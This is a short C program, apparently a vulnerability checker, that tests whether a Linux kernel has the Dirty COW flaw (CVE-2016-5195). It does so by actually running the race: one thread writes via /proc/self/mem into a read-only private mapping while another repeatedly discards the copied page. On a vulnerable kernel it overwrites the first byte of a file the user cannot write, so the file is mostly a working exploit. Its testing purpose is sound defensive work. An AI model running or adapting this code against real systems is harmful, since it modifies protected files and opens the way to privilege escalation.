/*
 * Shows whether a kernel has Dirty COW (CVE-2016-5195): try FILE, as a user who may read FILE and not write to it.
 * Ends with 0 when FILE was changed, with 1 when it was not within SECONDS, with 2 when it could not be tried.
 *
 * FILE is mapped privately, to be read. One thread writes to that place by way of /proc/self/mem, which may: it gets a
 * copy of the page. Another one tells the kernel all the time to forget that copy. A kernel that, having copied, looks
 * the page up as if to read finds FILE's own page where the copy was forgotten just then, and writes there.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

enum { SECONDS = 20 };
static char *place;
static char wanted;
static int memory;
static atomic_bool over;

/* It sleeps between: when it wakes, it comes before the other one, wherever that is just then, also on one processor. */
static void *forget(void *unused)
{
	struct timespec moment = { .tv_nsec = 50000 };

	while (!over) {
		madvise(place, 4096, MADV_DONTNEED);
		nanosleep(&moment, NULL);
	}
	return unused;
}

static void *change(void *unused)
{
	while (!over)
		if (pwrite(memory, &wanted, 1, (off_t)(unsigned long)place) != 1)
			perror("cannot write to memory"), _exit(2);
	return unused;
}

int main(int argc, char **argv)
{
	pthread_t one, other;
	int file = argc == 2 ? open(argv[1], O_RDONLY) : -1;
	char now;

	if (file < 0 || pread(file, &now, 1, 0) != 1) {
		perror("cannot read the file");
		return 2;
	}
	if (open(argv[1], O_WRONLY) >= 0) {
		fprintf(stderr, "this user may write to it\n");
		return 2;
	}
	wanted = now == '!' ? '?' : '!';
	place = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
	memory = open("/proc/self/mem", O_RDWR);
	if (place == MAP_FAILED || memory < 0 || pthread_create(&one, NULL, forget, NULL) ||
	    pthread_create(&other, NULL, change, NULL)) {
		perror("cannot begin");
		return 2;
	}
	for (time_t end = time(NULL) + SECONDS; now != wanted && time(NULL) < end; usleep(10000))
		if (pread(file, &now, 1, 0) != 1)
			break;
	over = 1;
	return now == wanted ? 0 : 1;
}
